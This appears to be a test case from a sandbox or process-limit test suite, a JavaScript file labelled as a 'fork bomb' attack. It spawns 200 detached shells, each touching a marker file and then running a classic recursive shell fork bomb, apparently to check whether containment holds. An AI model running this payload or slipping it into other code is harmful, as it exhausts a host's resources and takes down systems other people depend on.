/* @attack {"title": "fork bomb: spawn child processes in a loop, each of which would touch TMP_MARKER and spawn more"} */
import { spawn } from 'node:child_process';
const errors = [];
for (let i = 0; i < 200; i++) {
  try {
    spawn('sh', ['-c', 'touch "$TMP_MARKER"; b() { b | b & }; b'], { detached: true, stdio: 'ignore' }).unref();
  } catch (error) {
    errors.push(error);
  }
}
if (errors.length > 0) throw errors[0];
